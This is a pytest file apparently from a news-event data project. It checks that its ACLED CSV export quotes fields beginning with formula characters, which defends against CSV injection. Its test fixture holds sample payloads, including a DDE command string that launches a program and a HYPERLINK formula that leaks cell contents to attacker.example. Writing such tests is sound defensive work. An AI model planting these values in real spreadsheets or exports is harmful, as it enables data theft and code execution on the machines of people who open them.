"""A spreadsheet opening the ACLED CSV must not run what an outlet or a report wrote (issue 13, OWASP CSV injection)."""
from __future__ import annotations

import csv
import io

import pytest

from eventwire import export

pytestmark = pytest.mark.issue(13)

# An event as the store returns it, with hostile text in the fields that come from news sources.
HOSTILE = {
    "event_id": "ev-hostile", "event_type": "Violence against civilians", "sub_event_type": "Attack",
    "event_date": "2024-02-03", "time_precision": 1, "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "\tNorth", "admin2": "\rSouth", "country": "Democratic Republic of the Congo", "iso3": "COD",
    "latitude": -1.68, "longitude": 29.22, "geo_precision": 1, "actor1": "+Unidentified Armed Group",
    "actor2": "-Civilians (Congo)", "fatalities": None, "fatalities_min": None, "fatalities_max": None,
    "tags": ["=1+2"], "sources": ["a1"], "outlets": ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")'],
    "mentions": 1, "disagreements": {},
}


def _row(ev: dict) -> dict:
    buf = io.StringIO()
    export.write("acled-csv", [ev], buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert len(rows) == 1
    return rows[0]


def test_text_starting_with_a_formula_character_is_quoted_as_text():
    row = _row(HOSTILE)
    assert row["source"] == "'" + '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    assert row["actor1"] == "'+Unidentified Armed Group"
    assert row["actor2"] == "'-Civilians (Congo)"
    assert row["location"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["admin1"] == "'\tNorth"
    assert row["admin2"] == "'\rSouth"
    assert row["tags"] == "'=1+2"
    for name, value in row.items():
        assert not value or value[0] not in "=+-@\t\r" or name in ("latitude", "longitude"), (name, value)


def test_numbers_and_ordinary_text_are_unchanged():
    row = _row(HOSTILE)
    assert row["latitude"] == "-1.68" and row["longitude"] == "29.22"  # a negative number is data, not a formula
    assert row["country"] == "Democratic Republic of the Congo"
    assert row["event_date"] == "2024-02-03" and row["fatalities"] == "0"
    calm = _row({**HOSTILE, "actor1": "Police Forces of Kenya", "outlets": ["ledger.example"], "location": "Goma"})
    assert calm["actor1"] == "Police Forces of Kenya" and calm["source"] == "ledger.example"
    assert calm["location"] == "Goma"
